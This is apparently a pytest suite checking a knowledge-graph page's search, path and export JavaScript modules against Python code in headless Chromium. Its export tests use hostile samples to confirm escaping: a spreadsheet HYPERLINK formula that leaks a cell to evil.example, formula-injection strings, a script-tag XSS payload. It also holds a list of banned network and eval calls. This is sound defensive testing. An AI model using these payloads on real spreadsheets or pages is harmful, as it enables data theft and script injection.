"""The page modules (kg/viz/assets/search.js, path.js, export.js) in a real headless Chromium.

Each module is loaded on its own into a blank page and checked on the seed build against the
Python code it must agree with: KGSearch against `kg search` (kg/search.py), KGPath against
`kg.queries.paths`, KGExport against Python's csv and xml readers, and its download under the
same Content-Security-Policy as a `kg viz` page. Skips without chromium/playwright, except
under CI=true, where it fails (the `browser` fixture of test_viz_browser).
"""

from __future__ import annotations

import csv
import io
import random
import re
import xml.etree.ElementTree as ET
from importlib import resources
from pathlib import Path
from typing import Any, Iterator

import pytest

from kg.graphview import GraphView
from kg.queries import paths
from kg.resolve import BACKGROUND_CLASSES
from kg.search import search
from kg.viz.page import content_security_policy, edge_info, node_info
from kg.viz.style import class_style

from .test_viz_browser import browser  # noqa: F401  (the shared Chromium fixture)

MODULES = ("search.js", "path.js", "export.js")
SVG_NS = "{http://www.w3.org/2000/svg}"
HOSTILE_LABEL = '=HYPERLINK("http://evil.example/?q="&A1, "click me")'
SCRIPT = "<script>window.__xss=1</script>"


def asset(name: str) -> str:
    return resources.files("kg.viz").joinpath("assets", name).read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def blank(browser: Any) -> Iterator[Any]:  # noqa: F811
    """An about:blank page with the three modules added as inline scripts (and nothing else)."""
    page = browser.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.on("console", lambda msg: msg.type == "error" and errors.append(msg.text))
    page.goto("about:blank")
    for name in MODULES:
        page.add_script_tag(content=asset(name))
    yield page
    assert errors == []
    page.close()


def search_records(nodes: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """KGSearch records made the way the page makes them from its node infos: labels, alt
    labels, definition and the node's own evidence quotes (a relation's passages are not)."""
    out = []
    for node in nodes:
        info = node_info(node)
        out.append({"id": info["id"], "cls": info["class"], "label": info["label"],
                    "alt": info["alt_labels"], "definition": info["definition"],
                    "quotes": [e["quote"] for e in info["evidence"]]})
    return out


def shown_nodes(view: GraphView) -> list[dict[str, Any]]:
    """The nodes the whole-model page shows and `kg search` looks at (no background)."""
    return [n for _, n in sorted(view.nodes.items()) if n["class"] not in BACKGROUND_CLASSES]


@pytest.fixture(scope="module")
def searcher(blank: Any, view: GraphView) -> Any:
    """``query(text, limit)`` → KGSearch hits over the seed records, in the page."""
    blank.evaluate("(records) => { window.seedIndex = KGSearch.createIndex(records); }",
                   search_records(shown_nodes(view)))

    def query(text: str, limit: int = 50) -> list[dict[str, Any]]:
        return blank.evaluate("([t, n]) => seedIndex.query(t, n)", [text, limit])

    return query


# ---------------------------------------------------------------- search


def test_search_is_typo_tolerant_and_finds_data_security(searcher: Any) -> None:
    for text in ("data secruity", "data security", "Data Security", "ＤＡＴＡ　ＳＥＣＵＲＩＴＹ"):
        hits = searcher(text)
        assert hits[0]["id"] == "barrier/data-security-risk", text
        assert hits[0]["field"] == "label"
        assert "barrier/data-quality-security" in [h["id"] for h in hits[:3]]
    assert searcher("data secruity")[0]["score"] < searcher("data security")[0]["score"]


def test_search_privacy_finds_the_policy_whose_neighbour_is_data_security(
        searcher: Any, view: GraphView) -> None:
    """In the seeds "privacy" is an alternative label of the MIIT quality action plan only;
    barrier/data-security-risk itself never says privacy (its own texts are about core-data
    leakage). The page reaches it as the matched node's neighbour (links.yaml: the plan
    addresses the barrier, evidence 以维护好个人隐私等)."""
    hits = searcher("privacy")
    assert hits[0] == {"id": "policy/quality-improvement-action-plan", "score": 99,
                       "field": "alt"}
    neighbours = {h.node["id"] for h in view.out(hits[0]["id"])}
    assert "barrier/data-security-risk" in neighbours


def test_search_chinese_substring_exact_id_and_blank(searcher: Any) -> None:
    hits = searcher("安全风险")  # inside the label 数据安全风险
    assert hits[0]["id"] == "barrier/data-security-risk" and hits[0]["field"] == "label"
    assert searcher("数据安全")[0] == {"id": "barrier/data-security-risk", "score": 99,
                                      "field": "alt"}
    assert searcher("barrier/data-security-risk")[0] == {
        "id": "barrier/data-security-risk", "score": 100, "field": "id"}
    assert searcher("Taobao")[0] == {"id": "platform/taobao", "score": 100, "field": "label"}
    for text in ("", "   ", "\t\n"):
        assert searcher(text) == []
    # only in its evidence quote 因担心核心数据泄露，放弃深度数据挖掘 (the definition differs)
    assert searcher("数据泄露，放弃深度")[0]["id"] == "barrier/data-security-risk"
    assert searcher("数据泄露，放弃深度")[0]["field"] == "quote"


def test_search_ranking_is_deterministic_and_independent_of_record_order(
        blank: Any, searcher: Any, view: GraphView) -> None:
    records = search_records(shown_nodes(view))
    random.Random(5).shuffle(records)
    for text in ("data", "平台", "platform dependence", "innovation", "算法"):
        hits = searcher(text, 400)
        assert hits, text
        keys = [(-h["score"], h["id"]) for h in hits]
        assert keys == sorted(keys), "score desc, then id"
        assert {h["field"] for h in hits} <= {"id", "label", "alt", "definition", "quote"}
        shuffled = blank.evaluate("([r, t]) => KGSearch.createIndex(r).query(t, 400)",
                                  [records, text])
        assert shuffled == hits == searcher(text, 400)
    assert len(searcher("data", 3)) == 3


def test_search_start_gives_the_same_answer_and_can_be_cancelled(
        blank: Any, searcher: Any) -> None:
    got = blank.evaluate("""(t) => new Promise((done) => {
        seedIndex.start(t, 20, (hits) => done(hits)); })""", "data secruity")
    assert got == searcher("data secruity", 20)
    calls = blank.evaluate("""() => new Promise((done) => {
        let calls = 0;
        const cancel = seedIndex.start("platform", 20, () => { calls++; });
        cancel();
        seedIndex.start("platform", 20, () => setTimeout(() => done(calls), 50)); })""")
    assert calls == 0


def test_search_build_in_slices_gives_the_same_index(blank: Any, searcher: Any,
                                                     view: GraphView) -> None:
    got = blank.evaluate("""(records) => new Promise((done) => {
        KGSearch.build(records, (index) => done(["data secruity", "数据", "privacy"].map(
            (t) => index.query(t, 20)))); })""", search_records(shown_nodes(view)))
    assert got == [searcher(t, 20) for t in ("data secruity", "数据", "privacy")]


# Queries on which the page's top hit must be one of the CLI's best-scored hits. The CLI breaks
# ties by id and the page by coverage (see search.js), so only the tie set is compared.
CLI_QUERIES = ("data secruity", "data security", "privacy", "数据安全", "安全风险", "信息赋能",
               "homogenization", "homogenisation", "Taobao", "算法", "livestream", "同质化",
               "talnet shortage", "resorce reconstruction", "1688", "open innovation",
               "cross-border", "直播", "platform dependence", "数字赋能", "market feedback",
               "Pinduoduo", "JD", "barrier/data-security-risk")


def test_search_top_hit_agrees_with_the_cli(searcher: Any, view: GraphView) -> None:
    """Where both answer, the page's first hit is one of the CLI's best-scored hits. Principled
    differences: the CLI scores with rapidfuzz and breaks ties by id, the page by how much of the
    text the query covers ("data security": the label "Data security risk" before the alt label
    "data security and algorithmic bias", both 95 in the CLI); the page also matches ids
    (the CLI finds barrier/data-security-risk by its label at 76.2, the page by its id at 100);
    the CLI searches relation passages, which the page's records do not carry."""
    for text in CLI_QUERIES:
        cli = search(view, text, limit=50)
        ours = searcher(text)
        assert bool(cli) == bool(ours), text
        best = {h["id"] for h in cli if h["score"] == cli[0]["score"]}
        assert ours[0]["id"] in best, (text, ours[:3], cli[:3])


# ---------------------------------------------------------------- path


def page_graph(view: GraphView, shuffle: int | None = None) -> dict[str, Any]:
    """The graph KGPath.prepare takes, every seed node and edge (edge ids like the page's)."""
    edges = [{"id": f"e{k}", "from": u, "to": v, "relation": key}
             for k, (u, v, key) in enumerate(sorted(view.graph.edges(keys=True)))]
    if shuffle is not None:
        random.Random(shuffle).shuffle(edges)
    return {"nodes": {i: {"cls": n["class"]} for i, n in sorted(view.nodes.items())},
            "edges": edges}


def python_route(view: GraphView, a: str, b: str) -> tuple[list[str], list[tuple]] | None:
    """The node sequence and hops of ``paths(view, a, b, limit=1)[0]``."""
    found = paths(view, a, b, limit=1)
    if not found:
        return None
    nodes = [a]
    for hop in found[0]:
        forward = hop["direction"] == "forward"
        nxt = hop["target"]["id"] if forward else hop["source"]["id"]
        if nxt != nodes[-1]:
            nodes.append(nxt)
    hops = [(h["source"]["id"], h["relation"], h["target"]["id"], h["direction"] == "forward")
            for h in found[0]]
    return nodes, hops


#: A dozen seed pairs: same paper, cross-paper (000 ↔ 003), ones needing backward hops, ones
#: whose fewest-hop route runs through dimension/external-environment (a hub), a hub target.
PAIRS = (
    ("barrier/data-security-risk", "strategy/improve-legal-safeguards"),
    ("barrier/data-security-risk", "policy/quality-improvement-action-plan"),
    ("barrier/data-security-risk", "problem/product-homogenization"),
    ("barrier/data-security-risk", "platform/taobao"),
    ("mechanism/information-empowerment", "strategy/improve-legal-safeguards"),
    ("mechanism/information-empowerment", "problem/product-homogenization"),
    ("case/medium-food-company", "strategy/improve-legal-safeguards"),
    ("case/medium-food-company", "problem/product-homogenization"),
    ("strategy/improve-legal-safeguards", "policy/digital-countryside-2023-key-points"),
    ("barrier/policy-lag-data-export", "statistic/central-western-infrastructure-gap"),
    ("statistic/cross-border-firms-data-export", "org/ministry-of-agriculture-and-rural-affairs"),
    ("policy/14th-fyp-culture-development", "stage/resource-utilization"),
    ("org/bytedance", "mode/logistics-supply-chain-innovation"),
    ("barrier/policy-lag-data-export", "dimension/external-environment"),
)
HUB = "dimension/external-environment"


@pytest.fixture(scope="module")
def router(blank: Any, view: GraphView) -> Any:
    """``shortest(a, b, allowed=None)`` → KGPath's answer on the seed graph, in the page."""
    blank.evaluate("(g) => { window.seedRouter = KGPath.prepare(g); }", page_graph(view, 11))

    def shortest(a: str, b: str, allowed: list[str] | None = None) -> Any:
        return blank.evaluate("""([a, b, allowed]) => seedRouter.shortest(a, b,
            allowed ? {allowed: new Set(allowed)} : undefined)""", [a, b, allowed])

    return shortest


def test_path_pairs_cover_cross_paper_backward_and_hub_routes(view: GraphView) -> None:
    """The pairs below really are what they are meant to be (checked on the Python side)."""
    import networkx as nx

    routes = {pair: python_route(view, *pair) for pair in PAIRS}
    assert all(routes.values())
    docs = {pair: {view.nodes[x]["document"] for x in pair} for pair in PAIRS}
    assert sum(len(d) > 1 for d in docs.values()) >= 3
    assert sum(any(not h[3] for h in r[1]) for r in routes.values()) >= 6
    plain = nx.Graph(view.graph.to_undirected())
    plain.remove_nodes_from([i for i, n in view.nodes.items() if n["class"] in BACKGROUND_CLASSES])
    for a, b in PAIRS[8:11]:  # via the hub is as few hops as the route, which avoids it
        via = nx.shortest_path_length(plain, a, HUB) + nx.shortest_path_length(plain, HUB, b)
        assert via <= len(routes[(a, b)][0]) - 1 and HUB not in routes[(a, b)][0]
    assert routes[PAIRS[-1]][0][-1] == HUB


def test_path_equals_the_python_route_with_its_hops(router: Any, view: GraphView) -> None:
    graph = page_graph(view)
    for a, b in PAIRS:
        nodes, hops = python_route(view, a, b)
        got = router(a, b)
        assert got["nodes"] == nodes, (a, b)
        assert [(graph["edges"][int(h["edge"][1:])]["from"], h["relation"],
                 graph["edges"][int(h["edge"][1:])]["to"], h["forward"])
                for h in got["hops"]] == hops
        assert [(h["from"], h["relation"], h["to"], h["forward"]) for h in got["hops"]] == hops


def test_path_many_random_pairs_agree_with_python(router: Any, view: GraphView) -> None:
    ids = sorted(view.nodes)
    pairs = [tuple(random.Random(seed).sample(ids, 2)) for seed in range(120)]
    for a, b in pairs:
        expected = python_route(view, a, b)
        got = router(a, b)
        assert (got and got["nodes"]) == (expected and expected[0]), (a, b)


def test_path_honours_allowed_and_is_null_when_disconnected(
        router: Any, view: GraphView, seed_store: Path) -> None:
    a, b = "case/medium-food-company", "strategy/improve-legal-safeguards"
    first = router(a, b)["nodes"]
    banned = first[1]
    allowed = [i for i in sorted(view.nodes) if i != banned]
    got = router(a, b, allowed)
    projection = GraphView.loaded(seed_store).projection
    without = GraphView({**projection,
                         "nodes": [n for n in projection["nodes"] if n["id"] != banned],
                         "edges": [e for e in projection["edges"]
                                   if banned not in (e["source"], e["target"])]})
    assert banned not in got["nodes"]
    assert got["nodes"] == python_route(without, a, b)[0]
    assert router(a, b, []) is None, "not linked directly: no route without other nodes"
    only = router(a, b, first[1:-1])
    assert only["nodes"] == first, "the route itself is allowed"
    # two components of the seed graph
    assert python_route(view, "strategy/organizational-agility",
                        "theory/multi-sided-ecommerce-platform") is None
    assert router("strategy/organizational-agility", "theory/multi-sided-ecommerce-platform") \
        is None
    assert router("barrier/data-security-risk", "no/such-node") is None
    assert router(a, a) == {"nodes": [a], "hops": []}


# ---------------------------------------------------------------- export


def expected_evidence(items: list[dict[str, Any]]) -> str:
    return " | ".join(f'{e["document"]}{" §" + e["section"] if e["section"] else ""} '
                      f'[{e["start"]}–{e["end"]}] "{e["quote"]}"' for e in items)


def guarded(text: Any) -> str:
    text = "" if text is None else str(text)
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def export_sample(view: GraphView) -> tuple[list[dict[str, Any]], dict[str, dict[str, Any]]]:
    """Node infos and {edge id: edge info} as the page holds them: the data-security barrier's
    neighbourhood, plus a hostile node (formula, quotes, commas, newlines, Chinese)."""
    relations = view.projection.get("relations", {})
    centre = "barrier/data-security-risk"
    hops = [*view.out(centre), *view.into(centre)]
    ids = sorted({centre, *(h.node["id"] for h in hops)})
    nodes = [node_info(view.nodes[i]) for i in ids]
    nodes.append({"id": "x/hostile", "class": "Barrier",
                  "label": {"zh": '数据,"安全"\n风险', "en": HOSTILE_LABEL},
                  "alt_labels": {}, "definition": {}, "document": "000", "properties": {},
                  "evidence": [{"document": "000", "section": "", "start": 1, "end": 9,
                                "quote": '+1 "quoted", comma\r\nnext line'}]})
    for k, lead in enumerate(("-2+3", "@SUM(A1)", "\tTAB", "\rCR", "+cmd")):
        nodes.append({"id": f"x/formula-{k}", "class": "Problem",
                      "label": {"zh": lead, "en": "fine"}, "alt_labels": {}, "definition": {},
                      "document": "003", "properties": {}, "evidence": []})
    edges = {}
    for k, (u, v, key) in enumerate(sorted(view.graph.edges(keys=True))):
        if centre in (u, v):
            edges[f"e{k}"] = edge_info(view.graph[u][v][key]["data"], relations)
    return nodes, edges


def test_csv_parses_back_to_the_same_cells(blank: Any, view: GraphView) -> None:
    nodes, edges = export_sample(view)
    text = blank.evaluate("([n, e]) => KGExport.csv(n, e)", [nodes, edges])
    assert not text.startswith("\ufeff") and text.endswith("\r\n")
    assert text.split("\r\n", 1)[0] == ("kind,id,class,label_zh,label_en,document,source,"
                                       "relation,target,modality,evidence")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    expected = [["node", n["id"], n["class"], n["label"].get("zh"), n["label"].get("en"),
                 n["document"], "", "", "", "", expected_evidence(n["evidence"])] for n in nodes]
    expected += [["edge", i, "", e["relation_label"].get("zh"), e["relation_label"].get("en"),
                  " ".join(sorted({x["document"] for x in e["evidence"]})), e["source"],
                  e["relation"], e["target"], e["modality"], expected_evidence(e["evidence"])]
                 for i, e in edges.items()]
    assert rows[1:] == [[guarded(c) for c in row] for row in expected]
    assert [r[3] for r in rows if r[1].startswith("x/formula-")] == [
        "'-2+3", "'@SUM(A1)", "'\tTAB", "'\rCR", "'+cmd"]
    hostile = next(r for r in rows if r[1] == "x/hostile")
    assert hostile[4] == "'" + HOSTILE_LABEL and hostile[3] == '数据,"安全"\n风险'
    assert hostile[10].startswith('000 [1–9] "+1 "quoted", comma\r\nnext line"')
    assert any(re.search("[\u4e00-\u9fff]", r[10]) for r in rows[1:]), "Chinese evidence"
    as_list = blank.evaluate("([n, e]) => KGExport.csv(n, Object.keys(e).map((k) =>"
                             " Object.assign({id: k}, e[k])))", [nodes, edges])
    assert as_list == text


def scene_of(view: GraphView) -> dict[str, Any]:
    """A scene like the page passes: the seed's first classes on a grid, every vis shape."""
    shapes = ["dot", "square", "diamond", "triangle", "triangleDown", "star", "hexagon",
              "ellipse", "box", "text", "database", "circle"]
    picked = shown_nodes(view)[:30]
    nodes = []
    for k, node in enumerate(picked):
        style = class_style(node["class"])
        nodes.append({"id": node["id"], "x": (k % 6) * 180 - 400, "y": (k // 6) * 140 - 200,
                      "label": node["label"].get("zh", "") + "\n" + node["label"].get("en", ""),
                      "color": {"background": style.color, "border": style.color},
                      "shape": shapes[k % len(shapes)] if k < len(shapes) else style.shape,
                      "size": style.size})
    nodes.append({"id": 'x"/><script>', "x": 500, "y": 400, "label": SCRIPT + "\n<b>&amp;</b>",
                  "color": "red;background:url(x)", "shape": "dot", "size": 10})
    edges = [{"from": a["id"], "to": b["id"], "label": "hinders\n阻碍", "dashes": k % 2 == 0,
              "width": 1 + k % 3} for k, (a, b) in enumerate(zip(nodes[:-1], nodes[1:], strict=True))]
    return {"width": 1200, "height": 800, "nodes": nodes, "edges": edges}


def test_svg_has_one_shape_per_node_and_escapes_text(blank: Any, view: GraphView) -> None:
    scene = scene_of(view)
    text = blank.evaluate("(s) => KGExport.svg(s)", scene)
    root = ET.fromstring(text.encode("utf-8"))
    assert root.tag == SVG_NS + "svg" and root.get("width") == "1200"
    shapes = [e for e in root.iter() if e.get("class") == "kg-node-shape"]
    assert len(shapes) == len(scene["nodes"])
    groups = [e for e in root.iter() if e.get("class") == "kg-node"]
    assert [g.get("data-id") for g in groups] == [n["id"] for n in scene["nodes"]]
    assert not [e for e in root.iter() if e.tag.endswith("script")]
    assert "<script>" not in text
    hostile = groups[-1]
    lines = [t.text for t in hostile.iter(SVG_NS + "tspan")]
    assert lines == [SCRIPT, "<b>&amp;</b>"]
    assert shapes[-1].get("fill") == "#97c2fc", "an unsafe colour is replaced"
    lines_drawn = list(root.iter(SVG_NS + "line"))
    assert len(lines_drawn) == len(scene["edges"])
    assert all(e.get("marker-end") == "url(#kg-arrow)" for e in lines_drawn)
    assert sum(e.get("stroke-dasharray") is not None for e in lines_drawn) == sum(
        bool(e["dashes"]) for e in scene["edges"])
    first = groups[0]
    assert [t.text for t in first.iter(SVG_NS + "tspan")] == scene["nodes"][0]["label"].split("\n")
    assert text == blank.evaluate("(s) => KGExport.svg(s)", scene), "deterministic"


def test_download_works_under_the_viz_page_csp(browser: Any, tmp_path: Path,  # noqa: F811
                                               view: GraphView) -> None:
    script = asset("export.js")
    html = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\">"
            f"<meta http-equiv=\"Content-Security-Policy\" content=\"{content_security_policy([script])}\">"
            "</head><body><p>export</p><script>" + script + "</script></body></html>")
    page_file = tmp_path / "page.html"
    page_file.write_text(html, encoding="utf-8")
    nodes, edges = export_sample(view)
    page = browser.new_page()
    errors: list[str] = []
    requests: list[str] = []
    page.on("console", lambda msg: msg.type == "error" and errors.append(msg.text))
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.on("request", lambda request: requests.append(request.url))
    try:
        page.goto(page_file.as_uri())
        assert page.evaluate("typeof KGExport.download") == "function", "the CSP let it run"
        text = page.evaluate("([n, e]) => KGExport.csv(n, e)", [nodes, edges])
        for name, mime, body in (("kg-view.csv", "text/csv;charset=utf-8", text),
                                 ("kg-view.svg", "image/svg+xml",
                                  page.evaluate("(s) => KGExport.svg(s)", scene_of(view)))):
            with page.expect_download() as info:
                page.evaluate("([f, m, t]) => KGExport.download(f, m, t)", [name, mime, body])
            download = info.value
            assert download.suggested_filename == name
            saved = tmp_path / ("saved-" + name)
            download.save_as(saved)
            assert saved.read_bytes() == body.encode("utf-8")
        with page.expect_download() as info:  # a Blob, as the page's PNG export passes
            page.evaluate("""() => KGExport.download("kg-view.png", "image/png",
                new Blob([new Uint8Array([137, 80, 78, 71, 0, 255])], {type: "image/png"}))""")
        saved = tmp_path / "saved.png"
        info.value.save_as(saved)
        assert saved.read_bytes() == bytes([137, 80, 78, 71, 0, 255])
        assert page.evaluate("document.querySelectorAll('a').length") == 0, "link removed"
        assert errors == []
        assert [r for r in requests if not r.startswith("blob:")] == [page_file.as_uri()]
    finally:
        page.close()


def test_modules_define_one_global_each_without_network_or_eval() -> None:
    for name, glob in zip(MODULES, ("KGSearch", "KGPath", "KGExport"), strict=True):
        text = asset(name)
        assert f"root.{glob} =" in text
        for banned in ("eval(", "new Function", "fetch(", "XMLHttpRequest", "innerHTML",
                       "import(", "WebSocket", "</script"):
            assert banned not in text, (name, banned)
